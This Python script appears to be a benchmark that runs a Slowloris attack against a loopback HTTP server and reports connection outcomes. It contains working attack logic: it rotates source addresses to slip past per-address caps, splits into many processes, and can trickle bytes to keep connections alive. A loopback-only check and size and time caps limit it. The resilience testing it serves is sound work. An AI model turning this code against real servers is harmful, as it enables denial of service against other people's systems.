"""Slowloris: hold N half-sent HTTP connections to a loopback server for a while, then report what happened.

Each connection comes from one of many loopback source addresses (127.0.0.2, 127.0.0.3, ...: ``--per-address``
connections each, so a per-address cap does not shed them for free), sends half a request line and waits. The
attacker splits itself into as many processes as its open-files hard limit needs (it raises its own soft limit).
Bounded: at most 100,000 connections and 600 s, loopback targets only; SIGTERM/SIGINT end the hold early (the
report is still printed).

    python benchmarks/attacks/idle_conns.py --url http://127.0.0.1:8700 --conns 20000 --seconds 60

stderr gets one JSON line ``{"event": "ready", ...}`` once every first connection has connected or failed;
stdout gets the report: attempted, connected, open_after_s (still open when the hold ended), closed_by_server
(answered or closed by the server while held), refused_503 (of those, answered 503: a connection cap),
connect_failed, peak_open.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import math
import multiprocessing as mp
import resource
import signal
import socket
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from swarmrl.attacks.slowloris import (  # noqa: E402
    HALF_REQUEST,
    HoldReport,
    hold_idle_connections,
    loopback_sources,
    raise_own_nofile,
)

MAX_CONNS = 100_000
MAX_SECONDS = 600.0
FD_SPARE = 256  # per attacker process, for the interpreter itself


def loopback_target(url: str) -> tuple[str, int]:
    u = urlsplit(url)
    host, port = u.hostname or "", u.port or 80
    addrs = {ai[4][0] for ai in socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)}
    if not addrs or not all(ipaddress.ip_address(a).is_loopback for a in addrs):
        raise SystemExit(f"refusing to attack {url}: loopback targets only")
    return sorted(addrs)[0], port


def _worker(target: tuple[str, int], n: int, seconds: float, sources: list[str], reconnect_per_s: float,
            trickle_s: float, stop, out) -> None:  # noqa: ANN001
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    raise_own_nofile(n + FD_SPARE)
    rep = hold_idle_connections([target], n, seconds, sources=sources, payload=HALF_REQUEST,
                                reconnect_per_s=reconnect_per_s, trickle_s=trickle_s, stop=stop,
                                on_ready=lambda r: out.put(("ready", r.as_dict())))
    out.put(("done", rep.as_dict()))


def attack(url: str, conns: int, seconds: float, per_address: int = 50, reconnect_per_s: float = 0.0,
           trickle_s: float = 0.0, stop=None, on_ready=None) -> dict:  # noqa: ANN001
    """Run the hold (in child processes); returns the summed report plus procs and addresses."""
    target = loopback_target(url)
    conns, seconds = min(max(conns, 1), MAX_CONNS), min(max(seconds, 0.0), MAX_SECONDS)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    per_proc = conns if hard == resource.RLIM_INFINITY else max(hard - FD_SPARE, 1)
    procs = math.ceil(conns / per_proc)
    sources = loopback_sources(math.ceil(conns / max(per_address, 1)))
    ctx = mp.get_context("fork")
    stop = stop or ctx.Event()
    out = ctx.Queue()
    shares = [conns // procs + (1 if i < conns % procs else 0) for i in range(procs)]
    workers = [ctx.Process(target=_worker, args=(target, shares[i], seconds, sources[i::procs],
                                                 reconnect_per_s / procs, trickle_s, stop, out), daemon=True)
               for i in range(procs)]
    for w in workers:
        w.start()
    ready, done = HoldReport(), HoldReport()
    n_ready = n_done = 0
    deadline = time.monotonic() + seconds + 120
    while n_done < procs and time.monotonic() < deadline:
        try:
            kind, rep = out.get(timeout=0.5)
        except Exception:  # queue.Empty
            if not any(w.is_alive() for w in workers) and out.empty():
                break
            continue
        if kind == "ready":
            ready.add(HoldReport(**rep))
            n_ready += 1
            if n_ready == procs and on_ready is not None:
                on_ready(ready)
        else:
            done.add(HoldReport(**rep))
            n_done += 1
    stop.set()
    for w in workers:
        w.join(10)
        if w.is_alive():
            w.kill()
    r = done.as_dict()
    return {"attempted": r["attempted"], "connected": r["connected"], "open_after_s": r["open_at_end"],
            "closed_by_server": r["closed_by_server"], "refused_503": r["refused_503"],
            "connect_failed": r["connect_failed"],
            "peak_open": r["peak_open"], "seconds": r["seconds"], "procs": procs, "addresses": len(sources),
            "workers_reported": n_done}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", required=True, help="loopback server, e.g. http://127.0.0.1:8700")
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--per-address", type=int, default=50, help="connections per loopback source address")
    ap.add_argument("--reconnect-per-s", type=float, default=0.0, help="replace closed connections (rate)")
    ap.add_argument("--trickle-s", type=float, default=0.0, help="send one more byte per connection this often")
    a = ap.parse_args()
    ctx = mp.get_context("fork")
    stop = ctx.Event()
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.set())

    def ready(rep: HoldReport) -> None:
        print(json.dumps({"event": "ready", **rep.as_dict()}), file=sys.stderr, flush=True)

    res = attack(a.url, a.conns, a.seconds, a.per_address, a.reconnect_per_s, a.trickle_s, stop=stop, on_ready=ready)
    print(json.dumps(res), flush=True)


if __name__ == "__main__":
    main()
